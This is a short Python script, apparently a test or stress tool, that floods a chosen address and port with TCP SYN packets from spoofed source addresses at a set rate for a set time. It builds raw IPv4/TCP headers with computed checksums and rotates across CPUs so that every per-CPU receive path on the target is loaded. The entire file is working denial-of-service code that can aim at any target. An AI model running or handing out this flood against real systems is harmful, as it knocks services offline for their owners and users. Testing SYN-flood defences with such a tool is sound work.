#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""
SYNs from addresses that nobody has, at a bounded rate, for a bounded time.

    synflood.py RATE SECONDS PREFIX FIRST LAST ADDRESS PORT

The sources are PREFIX.FIRST to PREFIX.LAST (IPv4, on the link of ADDRESS, so that the SYN-ACKs are sent and
meet no reset). They come by each CPU in turn: whatever the receiver keeps for each, all of it is under attack.
Prints how many it has sent.
"""

import itertools
import os
import random
import socket
import struct
import sys
import time

DIFFERENT = 20000


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return 0xffff - ((total >> 16) + total & 0xffff)


def syn(source, target, source_port, port, seq):
    source, target = socket.inet_aton(source), socket.inet_aton(target)
    tcp = struct.pack(">HHIIBBHHH", source_port, port, seq, 0, 6 << 4, 2, 64240, 0, 0) + b"\x02\x04\x05\xb4"
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in length, id and checksum of the IP header.
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target) + tcp


def main():
    rate, seconds, prefix = float(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
    first, last, target, port = int(sys.argv[4]), int(sys.argv[5]), sys.argv[6], int(sys.argv[7])
    choose = random.Random(1)
    packets = [syn(f"{prefix}.{choose.randint(first, last)}", target, choose.randint(1024, 65535), port,
                   choose.getrandbits(32)) for _ in range(DIFFERENT)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    cpus = itertools.cycle(sorted(os.sched_getaffinity(0)))
    sent, began = 0, time.monotonic()
    while (now := time.monotonic() - began) < seconds:
        os.sched_setaffinity(0, {next(cpus)})
        while sent < now * rate:
            try:
                sock.sendto(packets[sent % DIFFERENT], (target, 0))
            except OSError:
                pass  # a full queue: a bounded flood has no need to insist
            sent += 1
        time.sleep(0.001)
    print(sent, flush=True)


if __name__ == "__main__":
    main()
